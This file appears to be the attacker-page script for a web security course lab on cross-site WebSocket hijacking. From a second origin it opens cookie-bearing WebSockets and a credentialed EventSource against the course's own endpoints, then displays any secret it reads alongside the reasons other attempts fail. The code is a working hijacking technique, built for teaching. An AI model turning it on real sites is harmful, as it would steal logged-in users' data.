// The attacker's script (lab 09). It runs on the lab's second origin and attacks the course on
// the main port with the visitor's own browser: the browser adds the visitor's cookies to the
// WebSocket handshake by itself, and applies no CORS to a WebSocket.

const WAIT_MS = 8000;

function show(id, state, text) {
  const result = document.querySelector(`#${id} .result`);
  result.dataset.state = state;
  result.textContent = text; // whatever comes back is shown as text, never as HTML
}

function describeSecret(data) {
  try {
    const profile = JSON.parse(data);
    if (profile.secret) return `user "${profile.user}", secret "${profile.secret}"`;
  } catch (e) { /* not JSON: show it as it came */ }
  return data;
}

// Resolves with what happened to one WebSocket attempt.
function trySocket(url) {
  return new Promise((resolve) => {
    let socket;
    try {
      socket = new WebSocket(url);
    } catch (error) {
      resolve({ outcome: 'refused', detail: `the browser refused to open it: ${error.message}` });
      return;
    }
    const timer = setTimeout(() => { socket.close(); resolve({ outcome: 'refused', detail: 'no answer in time' }); }, WAIT_MS);
    socket.onmessage = (event) => {
      clearTimeout(timer);
      socket.close();
      resolve({ outcome: 'stolen', detail: event.data });
    };
    socket.onclose = (event) => {
      clearTimeout(timer);
      if (event.code === 1006) {
        resolve({ outcome: 'refused', detail: 'the handshake failed: the server did not answer 101. A page never learns the status (it was 403), only that it failed.' });
      } else {
        resolve({ outcome: 'refused', detail: `the server closed it at once: ${event.code} ${event.reason}` });
      }
    };
  });
}

function tryEventSource(url) {
  return new Promise((resolve) => {
    const source = new EventSource(url, { withCredentials: true });
    const done = (result) => { clearTimeout(timer); source.close(); resolve(result); };
    const timer = setTimeout(() => done({ outcome: 'blocked', detail: 'nothing readable arrived in time' }), WAIT_MS);
    source.addEventListener('secret', (event) => done({ outcome: 'stolen', detail: event.data }));
    source.addEventListener('error', () => {
      if (source.readyState === EventSource.CLOSED) {
        done({ outcome: 'blocked', detail: 'the request went out with the cookie and the server answered, but without Access-Control-Allow-Origin: the browser failed the EventSource and this page read nothing (see the console\'s CORS error).' });
      }
    });
  });
}

async function attack() {
  const target = await (await fetch('/target.json')).json();
  const host = location.hostname; // an IPv6 address comes already in brackets: [::1]
  const http = `http://${host}:${target.port}`;
  const ws = `ws://${host}:${target.port}`;
  document.getElementById('self-origin').textContent = location.origin;
  document.getElementById('target-origin').textContent = http;

  const unchecked = await trySocket(`${ws}/labs/hijack/unchecked`);
  show('attack-unchecked', unchecked.outcome,
    unchecked.outcome === 'stolen' ? `Stolen: ${describeSecret(unchecked.detail)}` : `Failed: ${unchecked.detail}`);

  const checked = await trySocket(`${ws}/labs/hijack/checked`);
  show('attack-checked', checked.outcome,
    checked.outcome === 'stolen' ? `Stolen: ${describeSecret(checked.detail)}` : `Refused: ${checked.detail}`);

  const stream = await tryEventSource(`${http}/labs/hijack/stream`);
  show('attack-stream', stream.outcome,
    stream.outcome === 'stolen' ? `Stolen: ${describeSecret(stream.detail)}` : `Blocked by CORS: ${stream.detail}`);
}

attack().catch((error) => {
  for (const id of ['attack-unchecked', 'attack-checked', 'attack-stream']) {
    show(id, 'refused', `The attack could not start: ${error.message}`);
  }
});
